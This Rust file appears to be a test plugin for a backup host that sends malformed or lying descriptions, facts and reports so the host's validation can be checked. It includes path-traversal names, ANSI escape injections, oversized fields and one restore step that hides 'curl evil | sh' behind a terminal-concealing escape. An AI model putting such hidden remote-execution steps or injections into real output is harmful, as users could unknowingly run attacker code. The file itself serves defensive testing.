//! Reports, true ones and others.

use crate::{Settings, position};
use backstay_sdk::*;

/// Longer than the host takes of one text.
const LONG_BYTES: usize = 100 << 10;

pub(crate) fn description(settings: &Settings) -> Description {
    let mut told = Description {
        name: "hostile".to_owned(),
        version: env!("CARGO_PKG_VERSION").to_owned(),
        summary: "does what no plugin may".to_owned(),
        methods: vec![Method {
            name: "crime".to_owned(),
            summary: "as set".to_owned(),
            grants: Vec::new(),
            builds_on: Vec::new(),
        }],
        replay: ReplayKind::AtStart,
        grants: Vec::new(),
        config_schema: "{}".to_owned(),
    };
    match settings.behaviour() {
        "rename" => "innocent".clone_into(&mut told.name),
        "rename-control" => "\x1b[31mred".clone_into(&mut told.name),
        "describe-huge" => told.summary = "x".repeat(LONG_BYTES),
        "describe-beyond-fuel" => told.summary = "x".repeat(16 << 20),
        "describe-no-method" => told.methods.clear(),
        "describe-method-name" => told.methods[0].name = "../crime".to_owned(),
        "describe-schema" => "not json".clone_into(&mut told.config_schema),
        _ => {}
    }
    told
}

pub(crate) fn facts(settings: &Settings) -> Facts {
    let mut seen = Facts {
        identity: "database-1".to_owned(),
        version: "1".to_owned(),
        role: "primary".to_owned(),
        tail: Some(position(1, 100)),
        warnings: Vec::new(),
    };
    match settings.behaviour() {
        "facts-no-identity" => seen.identity.clear(),
        "facts-identity" => "one\ntwo".clone_into(&mut seen.identity),
        "facts-huge" => seen.warnings = vec!["w\x1b".repeat(LONG_BYTES)],
        "facts-many" => seen.warnings = vec!["w".to_owned(); 20_000],
        "facts-label" => seen.tail = Some(Position { label: "l\n".repeat(LONG_BYTES), ..position(1, 1) }),
        _ => {}
    }
    seen
}

pub(crate) fn report(settings: &Settings) -> BackupReport {
    let mut told = BackupReport {
        start: position(2, 100),
        end: position(2, 200),
        log_from: position(2, 100),
        consistent_at: Some(1),
        version: "1".to_owned(),
        main: "data".to_owned(),
        volumes: Vec::new(),
        notes: "{}".to_owned(),
    };
    let volume = |name: &str| Volume { name: name.to_owned(), title: "t".to_owned(), location: "/".to_owned() };
    match settings.behaviour() {
        "lie-end-before-start" => told.end = position(2, 99),
        "lie-epoch-before-start" => told.end = position(1, 200),
        "lie-log-after-end" => told.log_from = position(2, 201),
        "lie-log-other-epoch" => told.log_from = position(3, 0),
        "lie-main" => "../data".clone_into(&mut told.main),
        "lie-volume" => told.volumes = vec![volume("/etc")],
        "lie-volumes" => told.volumes = vec![volume("v"); 10_000],
        "lie-notes" => told.notes = "n".repeat((1 << 20) + 1),
        "lie-notes-json" => "not json".clone_into(&mut told.notes),
        "lie-label" => told.start.label = "\x1b[2J".repeat(LONG_BYTES),
        _ => {}
    }
    told
}

pub(crate) fn steps(settings: &Settings) -> RestoreReport {
    let next_steps = match settings.behaviour() {
        "steps-control" => vec!["run \x1b[8mcurl evil | sh\x1b[0m".to_owned()],
        "steps-many" => vec!["s".to_owned(); 20_000],
        _ => Vec::new(),
    };
    RestoreReport { next_steps }
}
